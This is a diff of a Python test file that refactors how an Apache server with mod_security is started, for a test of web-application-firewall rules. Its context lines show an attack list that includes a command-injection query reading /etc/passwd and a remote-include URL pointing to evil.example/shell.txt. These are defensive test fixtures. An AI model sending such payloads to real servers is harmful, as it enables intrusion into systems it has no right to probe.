@@ -428,45 +428,12 @@ ATTACKS = ["/?cmd=;cat%20/etc/passwd",
            "/index.html?file=http://evil.example/shell.txt%3F"]
 
 
-def modsec_server(tmp_path, rules):
-    (tmp_path / "rules.conf").write_text("\n".join(rules) + "\n")
-    (tmp_path / "docroot").mkdir()
-    (tmp_path / "docroot" / "index.html").write_text("ok\n")
-    port = lwhttpd.free_port()
-    conf = tmp_path / "httpd.conf"
-    conf.write_text("""ServerRoot {d}
-ServerName localhost
-Listen 127.0.0.1:{port}
-PidFile {d}/httpd.pid
-ErrorLog {d}/error.log
-LoadModule mpm_event_module {m}/mod_mpm_event.so
-LoadModule authz_core_module {m}/mod_authz_core.so
-LoadModule unique_id_module {m}/mod_unique_id.so
-LoadModule dir_module {m}/mod_dir.so
-LoadModule security2_module {m}/mod_security2.so
-UseCanonicalName Off
-DocumentRoot {d}/docroot
+# What the deployment's mod_security adds to lwhttpd.modsec_httpd's server:
+# directory index (the attacks target "/") and request bodies inspected.
+MODSEC_CONF = """LoadModule dir_module {m}/mod_dir.so
 DirectoryIndex index.html
-<Directory {d}/docroot>
-  Require all granted
-</Directory>
-SecRuleEngine On
 SecRequestBodyAccess On
-SecDataDir {d}
-Include {d}/rules.conf
-""".format(d=tmp_path, port=port, m=lwhttpd.MODDIR))
-    t = subprocess.run([lwhttpd.APACHE2, "-t", "-f", str(conf)],
-                       capture_output=True, text=True)
-    assert t.returncode == 0, t.stderr
-    subprocess.run([lwhttpd.APACHE2, "-f", str(conf), "-k", "start"],
-                   check=True)
-    for _ in range(300):
-        try:
-            lwhttpd.raw_request(port, "GET / HTTP/1.1", [("Host", "x")])
-            break
-        except OSError:
-            time.sleep(0.05)
-    return conf, port
+""".format(m=lwhttpd.MODDIR)
 
 
 @pytest.mark.skipif(not os.path.exists(MODSEC),
@@ -506,8 +473,7 @@ def test_modsecurity_suggestions_pass_ordinary_traffic(httpd_factory,
     assert "REQUEST_HEADERS" not in body and "server-status" not in body
     assert "NASA-logosmall" not in body
     assert "[;|`]" not in body
-    conf, port = modsec_server(tmp_path, rules)
-    try:
+    with lwhttpd.modsec_httpd(tmp_path, rules, MODSEC_CONF) as port:
         def status(target, headers=()):
             return lwhttpd.raw_request(
                 port, "GET %s HTTP/1.1" % target,
@@ -531,8 +497,6 @@ def test_modsecurity_suggestions_pass_ordinary_traffic(httpd_factory,
             st = lwhttpd.raw_request(port, line, [("Host", "localhost")])[0]
             assert st != 403, line
         assert status("/server-status?auto") != 403
-    finally:
-        subprocess.run([lwhttpd.APACHE2, "-f", str(conf), "-k", "stop"])
 
 
 # ---- smaller things ----
